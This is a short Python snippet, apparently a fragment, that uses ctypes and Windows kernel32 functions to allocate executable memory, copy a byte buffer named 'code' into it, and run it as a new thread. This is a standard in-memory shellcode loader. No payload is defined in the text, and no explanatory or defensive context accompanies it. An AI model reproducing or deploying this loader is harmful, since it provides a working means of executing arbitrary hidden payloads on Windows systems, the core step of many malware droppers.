import ctypes
ptr = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(ptr, code, len(code))
ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)
